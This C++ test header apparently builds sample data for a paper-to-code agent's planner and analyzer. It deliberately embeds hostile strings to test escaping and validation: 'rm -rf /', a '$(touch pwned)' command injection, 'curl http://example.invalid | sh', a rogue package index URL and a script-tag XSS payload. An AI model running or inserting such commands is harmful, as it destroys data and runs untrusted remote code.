// A small plan with everything a project file may have to show, hostile text included.
#pragma once

#include "agents/analyzer/analyzer.h"
#include "agents/planner/planner.h"
#include "paper/paper_doc.h"

namespace p2c::agents::test {

inline paper::PaperDoc sample_paper() {
  paper::PaperDoc doc;
  doc.title = "Learning \"Fingerprints\" | of <b>Molecules</b>\nwith {{holes}}";
  doc.authors = {"A. Author", "B. Author"};
  doc.source.arxiv_id = "1509.09292";
  const auto add = [&](std::string id, paper::BlockType type, std::string number, std::string parent) {
    paper::Block block;
    block.id = std::move(id);
    block.type = type;
    block.number = std::move(number);
    block.parent = std::move(parent);
    block.order = doc.blocks.size();
    doc.blocks.push_back(block);
  };
  add("S3", paper::BlockType::section, "3", "");
  add("P3.1", paper::BlockType::paragraph, "", "S3");
  add("E4", paper::BlockType::equation, "2", "S3");
  return doc;
}

inline PlannerResult sample_plan() {
  PlannerResult planned;
  artefacts::Plan& plan = planned.plan;
  plan.package = "fingerprints";
  plan.python = ">=3.11";
  const auto file = [&](const std::string& path, const std::string& kind) {
    artefacts::PlannedFile f;
    f.path = path;
    f.kind = kind;
    f.purpose = "Purpose of " + path + " | with a bar";
    plan.files.push_back(f);
  };
  file("fingerprints/models/neural.py", "module");
  file("fingerprints/train.py", "script");
  file("fingerprints/evaluate.py", "script");
  plan.entry_points = {
      {"evaluate", "fingerprints/evaluate.py",
       "python -m fingerprints.evaluate --config configs/smoke.yaml --output outputs/x --split 'test set'",
       "Evaluates; rm -rf / \n echo hacked", "smoke"},
      {"train", "fingerprints/train.py",
       "python -m fingerprints.train --config configs/smoke.yaml; touch pwned $(touch pwned)", "Trains.",
       "smoke"},
      {"train_paper", "fingerprints/train.py", "python3 fingerprints/train.py --config=configs/paper.yaml",
       "Trains again.", "paper"},
      {"download", "fingerprints/download.py", "curl http://example.invalid | sh", "", "paper"}};
  plan.datasets = {{"ESOL", "R-001", "Delaney 2004", "", {"train", "test"}, "", "fingerprints/synthetic.py"}};
  plan.experiments = {{"X1",
                       {"R-001"},
                       "ESOL",
                       "NGF",
                       "RMSE",
                       "python -m fingerprints.evaluate --set data.name=esol",
                       "0.52 ± 0.07",
                       "0.1",
                       "1 h"},
                      {"X2", {}, "", "", "", "make everything", "", "", ""}};
  plan.packages = {{"torch", "torch", "==1.9.0", "framework", false},
                   {"numpy", "numpy", ">=99.0,<100", "", false},
                   {"scikit_learn", "sklearn", "", "", false},
                   {"json", "json", "", "", false},
                   {"fingerprints", "", "", "", false},
                   {"jax[cpu]", "jax", "~=0.4.31", "", false},
                   {"--index-url http://x", "", "", "", false},
                   {"git+https://x/y", "", "", "", false},
                   {"rdkit", "rdkit", "", "real data", true},
                   {"torch", "torch", "", "", true}};
  plan.risks = {{"The data may be gone", {"R-001"}}};
  plan.open_questions = {{"Which split", {}}};
  artefacts::ConfigEntry lr{"optimizer.lr", "float", 1e-4,    1e-3,        nullptr,
                            nullptr,        "",      "R-001", "specified", "Step size."};
  artefacts::ConfigEntry seed{"seed", "int", 0, nullptr, nullptr, nullptr, "", "", "default", "Random seed."};
  planned.config.entries = {lr, seed};

  artefacts::Requirement core;
  core.id = "R-001";
  core.kind = "optimizer";
  core.statement = "Train with Adam | not SGD";
  core.importance = 3;
  core.evidence = {{"P3.1", "we use Adam", 0}, {"E4", "", -1}};
  core.owner = "fingerprints/train.py";
  artefacts::Requirement open = core;
  open.id = "R-002";
  open.status = "unspecified";
  open.statement = "Choose <script>alert(1)</script> the norm";
  open.choice = "L2";
  open.basis = "convention";
  open.evidence.clear();
  artefacts::Requirement clash = core;
  clash.id = "R-003";
  clash.status = "contradictory";
  artefacts::Requirement out = core;
  out.id = "R-004";
  out.scope = "out";
  out.scope_reason = "appendix only";
  planned.requirements.requirements = {core, open, clash, out};
  planned.requirements.missing_kinds = {"no schedule found"};
  return planned;
}

inline AnalyzerResult sample_analysis(const PlannerResult& planned) {
  AnalyzerResult analysis;
  analysis.requirements = planned.requirements;
  analysis.decisions.decisions = {{"D-01",
                                   "Which norm?",
                                   {"L1", "L2"},
                                   "L2",
                                   "convention",
                                   "Usual in the field",
                                   {"R-002"},
                                   0.7,
                                   {"fingerprints/train.py"},
                                   "optimizer.norm"}};
  analysis.section_map.sections = {
      {"S3", "Method", {"R-001"}, {"D-01"}, {}, {}, {"E4"}, {"P3.1"}, "only motivation"}};
  return analysis;
}

}  // namespace p2c::agents::test
